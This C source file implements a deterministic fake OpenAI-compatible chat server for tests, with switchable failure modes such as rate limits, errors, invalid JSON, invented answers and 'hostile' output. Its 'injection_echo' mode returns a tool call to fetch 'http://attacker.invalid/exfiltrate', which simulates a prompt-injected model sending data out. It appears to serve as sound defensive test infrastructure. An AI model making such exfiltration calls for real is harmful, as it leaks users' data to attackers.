/* fake-llm: an OpenAI-compatible chat-completions server FOR TESTS ONLY. It is not a model: it answers
 * deterministically from the evidence in the last user message (llm_answer.c), following the request's
 * JSON schema, and misbehaves on demand, per request (header X-Fake-Mode, or FAKE_MODE=<mode> anywhere
 * in the prompt) or for every request (FAKE_LLM_MODE, or POST /control/mode {"mode":...}): normal,
 * slow, rate_limit, error, invalid_json, invented, injection_echo, hostile. GET /stats counts requests by
 * mode. Every answer is computed on the loop thread (it is cheap and pure); slow answers wait in a deadline
 * queue, never on the loop. */
#include "alloc.h"
#include "auth.h"
#include "delayq.h"
#include "fake_env.h"
#include "httpd.h"
#include "llm_answer.h"
#include "log.h"
#include "program.h"

#include <jansson.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#define MODEL_NAME "fake-llm"
#define MAX_BODY_BYTES (8 * 1024 * 1024)
#define INVALID_JSON_CONTENT "Sure! Here is the report: the root cause is {not json at all"

typedef struct {
    atomic_int mode;  /* for requests that ask for none */
    int startup_mode; /* FAKE_LLM_MODE, restored by /control/reset */
    atomic_ulong counts[FAKE_MODE_COUNT];
    atomic_ulong bad_requests;
    atomic_ulong seq;
    int slow_ms;
    delayq_t *delayq;
} fake_llm_t;

/* An answer waiting in the delay queue (slow mode). */
typedef struct {
    httpd_job_t super; /* first */
    char *body;        /* owned */
    fake_mode_t mode;
} late_answer_t;

static void send_answer(h2o_req_t *req, int status, fake_mode_t mode, const char *body)
{
    httpd_add_header(req, "X-Fake-Mode-Used", answer_mode_name(mode));
    httpd_send_text(req, status, "application/json", body, strlen(body));
}

static void late_done(httpd_job_t *job, h2o_req_t *req)
{
    late_answer_t *a = (late_answer_t *)job;
    if (req) send_answer(req, 200, a->mode, a->body);
    free(a->body);
    free(a);
}

/* The chat.completion object around `content`. Caller frees. */
static char *completion(fake_llm_t *f, const chat_request_t *r, const char *content, fake_mode_t mode)
{
    char id[64];
    snprintf(id, sizeof(id), "chatcmpl-fake-%lu", atomic_fetch_add(&f->seq, 1) + 1);
    int prompt_tokens = answer_tokens(r->prompt), completion_tokens = answer_tokens(content);
    json_t *msg = json_pack("{s:s,s:s}", "role", "assistant", "content", content);
    int tool = mode == FAKE_INJECTION_ECHO;
    if (tool)
        json_object_set_new(msg, "tool_calls",
                            json_pack("[{s:s,s:s,s:{s:s,s:s}}]", "id", "call_fake_1", "type", "function",
                                      "function", "name", "http_get", "arguments",
                                      "{\"url\":\"http://attacker.invalid/exfiltrate\"}"));
    json_t *o =
        json_pack("{s:s,s:s,s:I,s:s,s:s,s:[{s:i,s:o,s:s}],s:{s:i,s:i,s:i}}", "id", id, "object",
                  "chat.completion", "created", (json_int_t)time(NULL), "model", MODEL_NAME,
                  "system_fingerprint", "fake-llm-tests-only", "choices", "index", 0, "message", msg,
                  "finish_reason", tool ? "tool_calls" : "stop", "usage", "prompt_tokens", prompt_tokens,
                  "completion_tokens", completion_tokens, "total_tokens", prompt_tokens + completion_tokens);
    char *s = json_dumps(o, JSON_COMPACT | JSON_PRESERVE_ORDER);
    json_decref(o);
    return s;
}

/* The mode of this request: X-Fake-Mode, else a FAKE_MODE= marker, else the global mode. Returns -1
 * when the header names no mode. */
static int mode_of(fake_llm_t *f, h2o_req_t *req, const chat_request_t *r)
{
    ssize_t i = h2o_find_header_by_str(&req->headers, H2O_STRLIT("x-fake-mode"), -1);
    if (i >= 0)
        return answer_mode_parse(req->headers.entries[i].value.base, req->headers.entries[i].value.len);
    return r->marker_mode >= 0 ? r->marker_mode : atomic_load(&f->mode);
}

static void bad_request(fake_llm_t *f, h2o_req_t *req, const char *message, const char *path)
{
    atomic_fetch_add(&f->bad_requests, 1);
    httpd_send_error(req, 400, "invalid_request_error", message, path);
}

static int on_chat(void *ctx, h2o_req_t *req, const httpd_match_t *m)
{
    fake_llm_t *f = ctx;
    json_t *body = json_loadb(req->entity.base, req->entity.len, 0, NULL);
    chat_request_t r;
    char err[200];
    if (body == NULL) {
        bad_request(f, req, "body is not JSON", NULL);
        return 0;
    }
    if (answer_parse_request(body, &r, err, sizeof(err)) != 0) {
        json_decref(body);
        bad_request(f, req, err, "messages");
        return 0;
    }
    json_decref(body);
    int mode = mode_of(f, req, &r);
    if (mode < 0) {
        answer_request_dispose(&r);
        bad_request(f, req,
                    "X-Fake-Mode: expected normal, slow, rate_limit, error, invalid_json, invented, "
                    "injection_echo or hostile",
                    NULL);
        return 0;
    }
    atomic_fetch_add(&f->counts[mode], 1);
    char *answer = NULL;
    switch ((fake_mode_t)mode) {
    case FAKE_RATE_LIMIT:
        httpd_add_header(req, "Retry-After", "1");
        send_answer(req, 429, FAKE_RATE_LIMIT,
                    "{\"error\":{\"message\":\"Rate limit reached (fake-llm, tests only)\",\"type\":"
                    "\"rate_limit_error\",\"code\":\"rate_limit_exceeded\"}}");
        break;
    case FAKE_ERROR:
        send_answer(req, 500, FAKE_ERROR,
                    "{\"error\":{\"message\":\"The server had an error (fake-llm, tests only)\",\"type\":"
                    "\"server_error\",\"code\":null}}");
        break;
    case FAKE_INVALID_JSON:
        answer = completion(f, &r, INVALID_JSON_CONTENT, FAKE_INVALID_JSON);
        send_answer(req, 200, FAKE_INVALID_JSON, answer);
        break;
    case FAKE_SLOW: {
        char *report = answer_report(&r, FAKE_NORMAL);
        late_answer_t *a = xcalloc(1, sizeof(*a));
        a->body = completion(f, &r, report, FAKE_SLOW);
        a->mode = FAKE_SLOW;
        free(report);
        httpd_job_attach(&a->super, req, m->request_id, late_done);
        delayq_add(f->delayq, &a->super, f->slow_ms);
        break;
    }
    case FAKE_NORMAL:
    case FAKE_INVENTED:
    case FAKE_INJECTION_ECHO:
    case FAKE_HOSTILE:
    case FAKE_MODE_COUNT: {
        char *report = answer_report(&r, (fake_mode_t)mode);
        answer = completion(f, &r, report, (fake_mode_t)mode);
        free(report);
        send_answer(req, 200, (fake_mode_t)mode, answer);
        break;
    }
    }
    free(answer);
    answer_request_dispose(&r);
    return 0;
}

static int on_models(void *ctx, h2o_req_t *req, const httpd_match_t *m)
{
    (void)ctx, (void)m;
    httpd_send_json(req, 200,
                    json_pack("{s:s,s:[{s:s,s:s,s:s}]}", "object", "list", "data", "id", MODEL_NAME, "object",
                              "model", "owned_by", "tests-only"));
    return 0;
}

static int on_mode(void *ctx, h2o_req_t *req, const httpd_match_t *m)
{
    (void)m;
    fake_llm_t *f = ctx;
    json_t *b = json_loadb(req->entity.base, req->entity.len, 0, NULL);
    const char *name = json_string_value(json_object_get(b, "mode"));
    int mode = name ? answer_mode_parse(name, strlen(name)) : -1;
    json_decref(b);
    if (mode < 0) {
        httpd_send_error(req, 400, "invalid",
                         "mode: expected normal, slow, rate_limit, error, invalid_json, invented, "
                         "injection_echo or hostile",
                         "mode");
        return 0;
    }
    atomic_store(&f->mode, mode);
    log_info("mode set to %s", answer_mode_name((fake_mode_t)mode));
    httpd_send_json(req, 200, json_pack("{s:s}", "mode", answer_mode_name((fake_mode_t)mode)));
    return 0;
}

static int on_reset(void *ctx, h2o_req_t *req, const httpd_match_t *m)
{
    (void)m;
    fake_llm_t *f = ctx;
    atomic_store(&f->mode, f->startup_mode);
    for (int i = 0; i < FAKE_MODE_COUNT; i++)
        atomic_store(&f->counts[i], 0);
    atomic_store(&f->bad_requests, 0);
    httpd_send_json(req, 200, json_pack("{s:s}", "mode", answer_mode_name((fake_mode_t)f->startup_mode)));
    return 0;
}

static int on_stats(void *ctx, h2o_req_t *req, const httpd_match_t *m)
{
    (void)m;
    fake_llm_t *f = ctx;
    json_t *by_mode = json_object();
    unsigned long total = 0;
    for (int i = 0; i < FAKE_MODE_COUNT; i++) {
        unsigned long n = atomic_load(&f->counts[i]);
        total += n;
        json_object_set_new(by_mode, answer_mode_name((fake_mode_t)i), json_integer((json_int_t)n));
    }
    json_t *o = json_pack("{s:I,s:O,s:I,s:s,s:i}", "total", (json_int_t)total, "by_mode", by_mode,
                          "bad_requests", (json_int_t)atomic_load(&f->bad_requests), "mode",
                          answer_mode_name((fake_mode_t)atomic_load(&f->mode)), "slow_ms", f->slow_ms);
    json_object_update(o, by_mode); /* also flat: {"normal":n,...} */
    json_decref(by_mode);
    httpd_send_json(req, 200, o);
    return 0;
}

static int on_health(void *ctx, h2o_req_t *req, const httpd_match_t *m)
{
    (void)ctx, (void)m;
    httpd_send_json(req, 200,
                    json_pack("{s:s,s:s}", "status", "ok", "note", "fake LLM for tests only, not a model"));
    return 0;
}

/* ---------------- main ---------------- */

static const fake_env_var_t env_vars[] = {
    {"FAKE_LLM_PORT", "8090", "HTTP port"},
    {"FAKE_LLM_MODE", "normal",
     "mode of requests that ask for none: normal, slow, rate_limit, error, invalid_json, invented, "
     "injection_echo, hostile"},
    {"FAKE_LLM_SLOW_MS", "5000", "how late slow answers come"},
    {"FAKE_LLM_API_KEY", NULL, "when set, chat requests need Authorization: Bearer <key> (else 401)"},
};

static void usage(FILE *out)
{
    fprintf(out,
            "fake-llm: an OpenAI-compatible chat-completions server FOR TESTS ONLY. It is not a model: it\n"
            "restates the root cause found in the <evidence> of the last user message as a JSON report,\n"
            "following the request's response_format JSON schema, and answers with model \"fake-llm\".\n"
            "Routes: POST /v1/chat/completions, POST /chat/completions, GET /v1/models, POST /control/mode\n"
            "{\"mode\":...}, POST /control/reset, GET /stats, GET /health. Per request, the header\n"
            "X-Fake-Mode: <mode> or FAKE_MODE=<mode> anywhere in the prompt chooses the mode.\n\n");
    fake_env_print_help(out, "fake-llm", env_vars, sizeof(env_vars) / sizeof(*env_vars));
}

static int load_conf(fake_llm_t *f, int *port, keyset_t *keys, int *have_keys, char *err, size_t errlen)
{
    if (fake_env_int("FAKE_LLM_PORT", 8090, 1, 65535, port, err, errlen) != 0 ||
        fake_env_int("FAKE_LLM_SLOW_MS", 5000, 0, 600000, &f->slow_ms, err, errlen) != 0)
        return -1;
    const char *mode = fake_env_str("FAKE_LLM_MODE");
    f->startup_mode = mode ? answer_mode_parse(mode, strlen(mode)) : FAKE_NORMAL;
    if (f->startup_mode < 0) {
        snprintf(err, errlen, "FAKE_LLM_MODE: \"%s\" is not a mode (see --help)", mode);
        return -1;
    }
    atomic_store(&f->mode, f->startup_mode);
    const char *key = fake_env_str("FAKE_LLM_API_KEY");
    *have_keys = key != NULL;
    char why[160];
    if (key && keyset_parse(keys, key, why, sizeof(why)) != 0) {
        snprintf(err, errlen, "FAKE_LLM_API_KEY: %s", why);
        return -1;
    }
    return 0;
}

int main(int argc, char **argv)
{
    for (int i = 1; i < argc; i++)
        if (strcmp(argv[i], "--help") == 0 || strcmp(argv[i], "-h") == 0) {
            usage(stdout);
            return 0;
        }
    config_t cfg;
    program_init(argc, argv, "fake-llm", CFG_FAKE, &cfg);
    fake_llm_t f;
    memset(&f, 0, sizeof(f));
    keyset_t keys;
    memset(&keys, 0, sizeof(keys));
    int port, have_keys;
    char err[300];
    if (load_conf(&f, &port, &keys, &have_keys, err, sizeof(err)) != 0) {
        log_write(LOG_FATAL, NULL, NULL, "configuration: %s", err);
        return 2;
    }
    program_block_signals();
    f.delayq = delayq_create();
    httpd_opts_t o = {.program = "fake-llm",
                      .port = port,
                      .threads = 1,
                      .max_body_bytes = MAX_BODY_BYTES,
                      .bind_addr = cfg.bind_addr};
    httpd_t *h = httpd_create(&o);
    const keyset_t *need = have_keys ? &keys : NULL;
    httpd_route(h, "POST", "/v1/chat/completions", need, on_chat, &f);
    httpd_route(h, "POST", "/chat/completions", need, on_chat, &f);
    httpd_route(h, "GET", "/v1/models", need, on_models, &f);
    httpd_route(h, "POST", "/control/mode", NULL, on_mode, &f);
    httpd_route(h, "POST", "/control/reset", NULL, on_reset, &f);
    httpd_route(h, "GET", "/stats", NULL, on_stats, &f);
    httpd_route(h, "GET", "/health", NULL, on_health, &f);
    int rc = 0;
    if (httpd_start(h, err, sizeof(err)) != 0) {
        log_error("cannot start: %s", err);
        rc = 1;
    } else {
        log_info("fake LLM (for tests only, not a model) on port %d, mode %s%s", port,
                 answer_mode_name((fake_mode_t)f.startup_mode), have_keys ? ", API key required" : "");
        program_wait_signal();
        delayq_free(f.delayq); /* slow answers still waiting go out now, while the loop runs */
        f.delayq = NULL;
        nanosleep(&(struct timespec){0, 50 * 1000000}, NULL);
        httpd_stop(h);
    }
    delayq_free(f.delayq);
    httpd_free(h);
    if (have_keys) keyset_dispose(&keys);
    config_dispose(&cfg);
    return rc;
}
